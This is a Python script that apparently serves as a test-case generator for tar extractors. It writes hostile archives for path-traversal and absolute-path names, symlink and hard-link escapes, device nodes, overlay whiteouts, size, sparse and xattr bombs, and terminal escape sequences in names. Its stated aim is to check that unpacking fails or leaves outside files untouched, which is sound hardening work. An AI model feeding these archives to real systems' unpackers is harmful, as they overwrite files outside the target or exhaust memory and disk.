#!/usr/bin/env python3
"""Archives made to break out of, or to choke, whoever unpacks them (Python's standard library only).

    hostile.py list             the names, one a line
    hostile.py all OUT TARGET   writes a tar OUT/NAME.tar for each; TARGET is a directory outside that they try to reach

TARGET holds a file "victim". Unpacking must either fail or leave everything outside as it was; entries named "escape" must not
appear in TARGET, and nothing may take long or need much memory.
"""
import io
import struct
import sys

CASES = {}


def case(make):
    CASES[make.__name__.replace("_", "-")] = make
    return make


class Tar:
    """Writes headers that tarfile refuses to."""

    def __init__(self, target):
        self.target = target
        self.out = io.BytesIO()

    def raw(self, name, kind=b"0", data=b"", link=b"", size=None, mode=0o644, major=0, minor=0):
        def octal(value, width):
            if value >= 8 ** (width - 1) or value < 0:
                return b"\x80" + (value & (1 << 8 * (width - 1)) - 1).to_bytes(width - 1, "big")
            return b"%0*o\0" % (width - 1, value)

        def as_bytes(text):
            return text if isinstance(text, bytes) else text.encode()

        size = len(data) if size is None else size
        size_field = size if isinstance(size, bytes) else octal(size, 12)
        head = struct.pack("100s8s8s8s12s12s8s1s100s6s2s32s32s8s8s155s12x", as_bytes(name)[:100], octal(mode, 8),
                           octal(0, 8), octal(0, 8), size_field, octal(1700000000, 12), b" " * 8, kind,
                           as_bytes(link)[:100], b"ustar\0", b"00", b"root", b"root", octal(major, 8), octal(minor, 8), b"")
        check = b"%06o\0 " % sum(head)
        self.out.write(head[:148] + check + head[156:])
        self.out.write(data + b"\0" * (-len(data) % 512))

    def pax(self, records, name, kind=b"0", data=b"", **more):
        """An entry with PAX records in front."""
        text = b""
        for key, value in records:
            body = b" " + key + b"=" + value + b"\n"
            length = len(body) + 1
            while len(str(length)) + len(body) != length:
                length += 1
            text += str(length).encode() + body
        self.raw("pax", b"x", text)
        self.raw(name, kind, data, **more)

    def file(self, name, data=b"escaped\n", **more):
        self.long(name, b"0", data, **more)

    def long(self, name, kind, data=b"", link="", **more):
        records = []
        if len(name) > 100:
            records.append((b"path", name.encode()))
        if len(link) > 100:
            records.append((b"linkpath", link.encode()))
        if records:
            self.pax(records, name, kind, data, link=link, **more)
        else:
            self.raw(name, kind, data, link=link, **more)

    def symlink(self, name, to):
        self.long(name, b"2", link=to)

    def directory(self, name, mode=0o755):
        self.raw(name, b"5", mode=mode)

    def hardlink(self, name, to):
        self.long(name, b"1", link=to)

    def up(self):
        return "../" * 40 + self.target.lstrip("/")


# Names

@case
def dotdot(t):
    t.file("../" * 40 + t.target.lstrip("/") + "/escape")


@case
def dotdot_inside(t):
    t.directory("a")
    t.file("a/../../" + "../" * 40 + t.target.lstrip("/") + "/escape")


@case
def dotdot_alone(t):
    t.file("..")


@case
def absolute(t):
    t.file(t.target + "/escape")


@case
def empty_name(t):
    t.file("")


@case
def dot_name(t):
    t.file(".")


@case
def newline_and_bytes(t):
    t.file("new\nline")
    t.raw(b"not-utf8-\xff\xfe", data=b"x")


@case
def escape_sequence(t):
    t.file("\x1b]0;owned\x07\x1b[2J")


# Through symlinks

@case
def symlink_absolute(t):
    t.symlink("link", t.target)
    t.file("link/escape")


@case
def symlink_relative(t):
    t.symlink("link", t.up())
    t.file("link/escape")


@case
def symlink_twice(t):
    t.symlink("one", "two")
    t.symlink("two", t.target)
    t.file("one/escape")


@case
def symlink_after_directory(t):
    t.directory("d")
    t.file("d/inside")
    t.symlink("d", t.target)
    t.file("d/escape")


@case
def symlink_as_file(t):
    t.symlink("f", t.target + "/victim")
    t.file("f")


@case
def symlink_as_directory(t):
    t.symlink("d", t.target)
    t.directory("d", 0o777)


@case
def symlink_loop(t):
    t.symlink("a", "b")
    t.symlink("b", "a")
    t.file("a/escape")


@case
def symlink_long_chain(t):
    for i in range(500):
        t.symlink(f"s{i}", f"s{i + 1}")
    t.symlink("s500", t.target)
    t.file("s0/escape")


@case
def symlink_proc(t):
    t.symlink("p", "/proc/self/root" + t.target)
    t.file("p/escape")


# Through hard links

@case
def hardlink_outside(t):
    t.hardlink("h", t.target + "/victim")
    t.file("h")


@case
def hardlink_dotdot(t):
    t.hardlink("h", t.up() + "/victim")
    t.file("h")


@case
def hardlink_through_symlink(t):
    t.symlink("link", t.target)
    t.hardlink("h", "link/victim")
    t.file("h")


@case
def hardlink_to_symlink(t):
    t.symlink("s", t.target + "/victim")
    t.hardlink("h", "s")
    t.file("h")


@case
def hardlink_to_itself(t):
    t.hardlink("h", "h")


@case
def hardlink_to_directory(t):
    t.directory("d")
    t.hardlink("h", "d")


# Devices and other nodes

@case
def block_device(t):
    t.raw("disk", b"4", major=8, minor=0, mode=0o666)


@case
def char_device(t):
    t.raw("mem", b"3", major=1, minor=1, mode=0o666)


@case
def char_whiteout(t):
    t.raw("gone", b"3", major=0, minor=0)


@case
def fifo(t):
    t.raw("pipe", b"6")
    t.file("pipe")


@case
def unknown_type(t):
    t.raw("odd", b"Z")


# Whiteouts

@case
def whiteout_dotdot(t):
    t.file(".wh...", b"")


@case
def whiteout_dot(t):
    t.file(".wh..", b"")


@case
def whiteout_nothing(t):
    t.file(".wh.", b"")


@case
def whiteout_through_symlink(t):
    t.symlink("link", t.target)
    t.file("link/.wh.victim", b"")


@case
def opaque_through_symlink(t):
    t.symlink("link", t.target)
    t.file("link/.wh..wh..opq", b"")


# Sizes

@case
def size_negative(t):
    t.raw("f", size=b"\xff" * 12)


@case
def size_huge(t):
    t.raw("f", size=1 << 62)


@case
def size_bomb(t):
    t.raw("f", size=200 << 30)


@case
def size_not_there(t):
    t.raw("f", size=1 << 20)


@case
def pax_size_huge(t):
    t.pax([(b"size", b"9223372036854775807")], "f")


@case
def pax_size_bad(t):
    t.pax([(b"size", b"12x")], "f")


@case
def pax_header_huge(t):
    t.raw("pax", b"x", size=3 << 30)


@case
def pax_records_bad(t):
    t.raw("pax", b"x", b"99999999999999999999 path=x\n")
    t.file("f")


@case
def pax_nul(t):
    t.pax([(b"path", b"a\0../../escape")], "f")


@case
def gnu_long_name_huge(t):
    t.raw("././@LongLink", b"L", size=1 << 30)


@case
def sparse_bomb(t):
    t.pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"f"),
           (b"GNU.sparse.realsize", b"9000000000000000000")], "f", data=b"1\n8999999999999999999\n1\n".ljust(512, b"\0") + b"x")


@case
def sparse_beyond(t):
    t.pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"f"),
           (b"GNU.sparse.realsize", b"10")], "f", data=b"1\n5\n100\n".ljust(512, b"\0") + b"x" * 100)


@case
def sparse_many(t):
    t.pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"f"),
           (b"GNU.sparse.realsize", b"10")], "f", data=b"99999999999\n".ljust(512, b"\0"))


@case
def path_too_long(t):
    t.pax([(b"path", b"d/" * 5000 + b"f")], "f", data=b"x")


@case
def component_too_long(t):
    t.pax([(b"path", b"n" * 300)], "f", data=b"x")


@case
def path_deep(t):
    t.pax([(b"path", b"d/" * 600 + b"f")], "f", data=b"x")


@case
def xattr_bomb(t):
    t.pax([(b"SCHILY.xattr.user.a%d" % i, b"v" * 50000) for i in range(18)], "f", data=b"x")


@case
def xattr_trusted(t):
    t.pax([(b"SCHILY.xattr.trusted.overlay.redirect", t.target.encode()),
           (b"SCHILY.xattr.user.overlay.redirect", t.target.encode()),
           (b"SCHILY.xattr.trusted.overlay.opaque", b"y")], "d", b"5")


@case
def checksum_bad(t):
    t.file("f")
    data = bytearray(t.out.getvalue())
    data[150] ^= 1
    t.out = io.BytesIO(bytes(data))
    t.out.seek(0, 2)


@case
def zeroes_then_more(t):
    t.file("a")
    t.out.write(b"\0" * 1024)
    t.file("../../../../escape")


def main():
    if sys.argv[1:] == ["list"]:
        print("\n".join(CASES))
        return
    out, target = sys.argv[2:]
    for name, make in CASES.items():
        t = Tar(target)
        t.file("before", b"an ordinary file\n")
        make(t)
        with open(f"{out}/{name}.tar", "wb") as f:
            f.write(t.out.getvalue() + b"\0" * 1024)


if __name__ == "__main__":
    main()
